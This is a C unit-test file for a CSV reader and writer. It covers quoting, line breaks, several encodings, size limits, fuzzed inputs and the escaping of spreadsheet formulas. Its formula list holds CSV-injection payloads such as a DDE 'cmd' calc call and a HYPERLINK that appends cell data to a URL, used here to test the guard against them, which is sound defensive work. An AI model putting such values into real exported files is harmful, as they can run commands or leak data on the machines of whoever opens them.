/* The CSV reader by a table of files and what must come out: cells joined by
 * "|", rows ended by "/", faults as "!column@line name". And the formula set. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "base/formula.h"
#include "base/i18n.h"
#include "base/mem.h"
#include "base/rng.h"
#include "base/str.h"
#include "base/utf8.h"
#include "exchange/csv.h"
#include "report/write_csv.h"

static const char *const fault_names[] = {
	"fine", "quote", "open-quote", "nul", "encoding", "long-line", "long-field", "columns"
};

static void
write_file(char *path, const char *bytes, size_t len)
{
	int fd;

	strcpy(path, "/tmp/quen-csv-XXXXXX");
	fd = mkstemp(path);
	assert_true(fd >= 0);
	while (len > 0) {
		ssize_t n = write(fd, bytes, len);

		assert_true(n > 0);
		bytes += n;
		len -= (size_t)n;
	}
	close(fd);
}

static char *
read_all(const char *bytes, size_t len, const struct csv_options *o)
{
	char path[32];
	struct csv *c;
	struct csv_row row;
	struct err_note note = { 0 };
	struct strbuf b = { 0 };
	enum err e;
	size_t i;

	write_file(path, bytes, len);
	assert_int_equal(csv_open(path, o, &c, &note), ERR_OK);
	strbuf_addf(&b, "%s %s:", csv_encoding(c), csv_separator(c) == '\t' ? "TAB" :
	    (char[]) { csv_separator(c), '\0' });
	while (csv_next(c, &row, &e, &note)) {
		for (i = 0; i < row.n; i++) {
			if (i > 0)
				strbuf_add(&b, "|");
			strbuf_add(&b, strlen(row.cells[i]) > 300 ? "LONG" : row.cells[i]);
		}
		if (row.fault != CSV_FINE) {
			strbuf_addf(&b, "!%zu@%d %s", row.fault_col, (int)row.fault_line,
			    fault_names[row.fault]);
			assert_true(csv_fault_text(row.fault)[0] != '\0');
		}
		if (row.is_suspect)
			strbuf_add(&b, "?");
		strbuf_addf(&b, "/%d ", (int)row.line);
	}
	assert_int_equal(e, ERR_OK);
	csv_close(c);
	unlink(path);
	return strbuf_take(&b);
}

#define FILE_(s) s, sizeof(s) - 1

static const struct { const char *bytes; size_t len; const char *want; } files[] = {
	{ FILE_(""), "UTF-8 ,:" },
	{ FILE_("a,b\r\n1,2\r\n"), "UTF-8 ,:a|b/1 1|2/2 " },
	{ FILE_("a,b\n1,2"), "UTF-8 ,:a|b/1 1|2/2 " },
	{ FILE_("a,b\r1,2\r"), "UTF-8 ,:a|b/1 1|2/2 " },
	{ FILE_("\xef\xbb\xbf" "a;b\n1;2\n"), "UTF-8 ;:a|b/1 1|2/2 " },
	{ FILE_("a\tb\n1,5\t2\n"), "UTF-8 TAB:a|b/1 1,5|2/2 " },
	{ FILE_("a;b\n\"1,2,3\";4\n\"5,6\";7\n"), "UTF-8 ;:a|b/1 1,2,3|4/2 5,6|7/3 " },
	{ FILE_("name\nAn\n"), "UTF-8 ,:name/1 An/2 " },
	{ FILE_("sep=;\r\na,x;b\r\n1;2\r\n"), "UTF-8 ;:a,x|b/2 1|2/3 " },
	/* blank lines, empty cells, blanks kept */
	{ FILE_("a,b\n\n\n ,\n\n1,\n"), "UTF-8 ,:a|b/1  |/4 1|/6 " },
	/* quotes: doubled, line breaks inside, within an unquoted cell */
	{ FILE_("a,b\n\"x \"\"y\"\"\",2\n"), "UTF-8 ,:a|b/1 x \"y\"|2/2 " },
	{ FILE_("a,b\n\"1\n2\r\n3\",4\n5,6\n"), "UTF-8 ,:a|b/1 1\n2\r\n3|4/2 5|6/5 " },
	{ FILE_("a,b\n5\" pipe,2\n\"\",\"\"\n"), "UTF-8 ,:a|b/1 5\" pipe|2/2 |/3 " },
	{ FILE_("a,b\n\"x\" ,2\n"), "UTF-8 ,:a|b/1 x|2/2 " },
	/* broken quotes cost one row; what may be its rest is marked */
	{ FILE_("a,b\n\"x\"y,2\n3,4\n"), "UTF-8 ,:a|b/1 x!1@2 quote/2 3|4/3 " },
	{ FILE_("a,b\n1,\"x\n3,4\n5,\"6\"\n7,8\n"),
	    "UTF-8 ,:a|b/1 1|x\n3,4\n5,!2@4 quote/2 3|4?/3 5|6?/4 7|8/5 " },
	{ FILE_("a,b\n1,\"x\n3,4\n"), "UTF-8 ,:a|b/1 1|x\n3,4\n!2@2 open-quote/2 3|4/3 " },
	/* bad bytes, by cell */
	{ FILE_("a,b\n1,x\xc0\x80y\n3,4\n"), "UTF-8 ,:a|b/1 1|x\xef\xbf\xbd\xef\xbf\xbdy!2@2 encoding/2 3|4/3 " },
	{ FILE_("a,b\n\xed\xa0\x80,\xf5\n"),
	    "UTF-8 ,:a|b/1 \xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd|\xef\xbf\xbd!1@2 encoding/2 " },
	{ FILE_("a,b\n1,x\0y\n3,4\n"), "UTF-8 ,:a|b/1 1|x\xef\xbf\xbdy!2@2 nul/2 3|4/3 " },
	/* UTF-16, with and without a mark, surrogates whole and torn */
	{ FILE_("\xff\xfe" "a\0,\0b\0\n\0\xc5\x1e,\0" "2\0\n\0"), "UTF-16LE ,:a|b/1 \xe1\xbb\x85|2/2 " },
	{ FILE_("\xfe\xff" "\0a\0,\0b\0\n\x5f\x20\0,\0" "2\0\n"), "UTF-16BE ,:a|b/1 \xe5\xbc\xa0|2/2 " },
	{ FILE_("a\0;\0b\0\r\0\n\0" "1\0;\0" "2\0"), "UTF-16LE ;:a|b/1 1|2/2 " },
	{ FILE_("\0a\0;\0b\0\n\0" "1\0;\0" "2"), "UTF-16BE ;:a|b/1 1|2/2 " },
	{ FILE_("\xff\xfe" "a\0\n\0\x3d\xd8\x00\xde\n\0"), "UTF-16LE ,:a/1 \xf0\x9f\x98\x80/2 " },
	{ FILE_("\xff\xfe" "a\0\n\0\x3d\xd8x\0\n\0\x00\xdc"),
	    "UTF-16LE ,:a/1 \xef\xbf\xbdx!1@2 encoding/2 \xef\xbf\xbd!1@3 encoding/3 " },
	{ FILE_("\xff\xfe" "a\0\n\0x"), "UTF-16LE ,:a/1 \xef\xbf\xbd!1@2 encoding/2 " },
};

static void
test_files(void **state)
{
	struct csv_options o = { 0 };
	size_t i;
	char *got;

	(void)state;
	for (i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		got = read_all(files[i].bytes, files[i].len, &o);
		assert_string_equal(got, files[i].want);
		free(got);
	}
}

static void
test_encodings(void **state)
{
	struct csv_options vn = { .encoding = "windows-1258" }, cn = { .encoding = "GB18030" };
	struct csv_options bad = { .encoding = "klingon" }, tab = { .separator = '\t' };
	struct err_note note = { 0 };
	struct csv *c;
	char *got;

	(void)state;
	/* "Nguyê" + combining tilde + "n": windows-1258 keeps tones apart */
	got = read_all(FILE_("a\nNguy\xea\xde" "n\n"), &vn);
	assert_non_null(strstr(got, "windows-1258 ,:a/1 Nguy"));
	assert_null(strstr(got, "!"));
	free(got);
	got = read_all(FILE_("a,b\n\xd5\xc5\xc8\xfd,2\n\xff,3\n"), &cn);
	assert_string_equal(got, "GB18030 ,:a|b/1 张三|2/2 \xef\xbf\xbd|3!1@3 encoding/3 ");
	free(got);
	got = read_all(FILE_("a,b\tc\n"), &tab);
	assert_string_equal(got, "UTF-8 TAB:a,b|c/1 ");
	free(got);
	assert_int_equal(csv_open("/dev/null", &bad, &c, &note), ERR_INVALID);
	assert_non_null(strstr(note.text, "klingon"));
	assert_int_equal(csv_open("/nonexistent/x.csv", &vn, &c, &note), ERR_NOTFOUND);
}

/* A file of n bytes of fill between head and tail. */
static char *
big(const char *head, char fill, size_t n, const char *tail)
{
	size_t h = strlen(head), t = strlen(tail);
	char *s = xmalloc(h + n + t), *got;
	struct csv_options o = { 0 };

	memcpy(s, head, h);
	memset(s + h, fill, n);
	memcpy(s + h + n, tail, t);
	got = read_all(s, h + n + t, &o);
	free(s);
	return got;
}

static void
test_limits(void **state)
{
	char *got;

	(void)state;
	got = big("a,b\n1,", 'x', CSV_FIELD_MAX, "\n3,4\n");
	assert_string_equal(got, "UTF-8 ,:a|b/1 1|LONG/2 3|4/3 ");
	free(got);
	got = big("a,b\n1,", 'x', CSV_FIELD_MAX + 1, "\n3,4\n");
	assert_string_equal(got, "UTF-8 ,:a|b/1 1|LONG!2@2 long-field/2 3|4/3 ");
	free(got);
	got = big("a,b\n1,", 'x', 10 * CSV_LINE_MAX, "\n3,4\n");
	assert_non_null(strstr(got, "!2@2 long-line/2 3|4/3 "));
	free(got);
	got = big("a,b\n1,\"", '\n', 3 * CSV_LINE_MAX, "\n3,4\n");
	assert_non_null(strstr(got, "!2@2 open-quote/2 3|4/3145731 "));
	free(got);
	got = big("a,b\n1", ',', 5000, "\n3,4\n");
	assert_non_null(strstr(got, "!1000@2 columns/2 3|4/3 "));
	free(got);
}

static const char *const formulas[] = {
	"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x?\"&A1)",
	"=WEBSERVICE(..)", "\t=1", "\r=1", "\n=1", " =1", "\"=1", ";=1", "\xef\xbc\x9d" "1",
	"\xef\xb9\xa3" "1", "=IMPORTXML(..)", "-2+3+cmd|..", "'=1", "''=1", "+84901234567",
	"\xef\xbc\x8b" "1", "\xef\xbc\xa0" "x"
};
static const char *const harmless[] = {
	"", "An", "1=1", "%0A=1", "'tis", "a-b", "5\" pipe", "Nguyễn \"Hue\"", "a,b;c\td", "x\r\ny",
	" blank ", "'", "''"
};

/* Writes one cell, reads it back: gives what came, unguarded. */
static char *
round_trip(const char *text, const struct csv_style *style)
{
	struct csv_options o = { .separator = style->separator };
	char path[32] = "/tmp/quen-csv-XXXXXX", *got;
	struct csv *c;
	struct csv_row row;
	enum err e;
	FILE *f = fdopen(mkstemp(path), "w");

	csv_write_begin(f, style);
	csv_write_cell(f, style, true, "head", false);
	csv_write_end_row(f, style);
	csv_write_cell(f, style, true, text, false);
	csv_write_cell(f, style, false, "-5", true);
	csv_write_end_row(f, style);
	fclose(f);
	assert_int_equal(csv_open(path, &o, &c, NULL), ERR_OK);
	assert_true(csv_next(c, &row, &e, NULL));
	assert_string_equal(row.cells[0], "head");
	assert_true(csv_next(c, &row, &e, NULL));
	assert_int_equal(row.n, 2);
	assert_string_equal(row.cells[1], "-5");
	got = xstrdup(style->plain ? row.cells[0] : csv_unguard(row.cells[0]));
	if (!style->plain)
		assert_true(row.cells[0][0] == '\'' || !text_is_formula(row.cells[0]));
	csv_close(c);
	unlink(path);
	return got;
}

static void
test_formulas(void **state)
{
	static const struct csv_style styles[] = { { ',', false }, { ';', false }, { ',', true } };
	size_t i, k;
	char *got;

	(void)state;
	for (i = 0; i < sizeof(formulas) / sizeof(formulas[0]); i++)
		assert_true(text_is_formula(formulas[i]));
	for (i = 0; i < sizeof(harmless) / sizeof(harmless[0]); i++)
		assert_false(text_is_formula(harmless[i]));
	for (k = 0; k < sizeof(styles) / sizeof(styles[0]); k++) {
		for (i = 0; i < sizeof(formulas) / sizeof(formulas[0]); i++) {
			got = round_trip(formulas[i], &styles[k]);
			assert_string_equal(got, formulas[i]);
			free(got);
		}
		for (i = 0; i < sizeof(harmless) / sizeof(harmless[0]); i++) {
			got = round_trip(harmless[i], &styles[k]);
			assert_string_equal(got, harmless[i]);
			free(got);
		}
	}
}

/* Whole files changed at random places: the reader ends, its lines go up, its
 * cells are text. Always the same files: the generator has a fixed seed. */
static void
test_mutations(void **state)
{
	static const char junk[] = "\"\"\",;\t\r\n\n\0=\xff\xfe\xc3\xe5 a";
	struct rng g = { 7 };
	struct csv_options o = { 0 };
	char path[32], bytes[512];
	struct csv_row row;
	struct csv *c;
	enum err e;
	int i, k;

	(void)state;
	for (i = 0; i < 3000; i++) {
		size_t f = rng_below(&g, sizeof(files) / sizeof(files[0])), len = files[f].len, n;
		int64_t line = 0;

		memcpy(bytes, files[f].bytes, len);
		for (k = 0; k < 4; k++) {
			size_t at = rng_below(&g, (uint32_t)len + 1);

			memmove(bytes + at + 1, bytes + at, len - at);
			bytes[at] = junk[rng_below(&g, sizeof(junk) - 1)];
			len++;
		}
		write_file(path, bytes, len);
		assert_int_equal(csv_open(path, &o, &c, NULL), ERR_OK);
		while (csv_next(c, &row, &e, NULL)) {
			assert_true(row.line > line);
			line = row.line;
			assert_true(row.n >= 1 && row.n <= CSV_COLUMNS_MAX);
			for (n = 0; n < row.n; n++)
				assert_true(utf8_is_valid(row.cells[n], strlen(row.cells[n])));
		}
		assert_int_equal(e, ERR_OK);
		csv_close(c);
		unlink(path);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_files),
		cmocka_unit_test(test_encodings),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_formulas),
		cmocka_unit_test(test_mutations),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
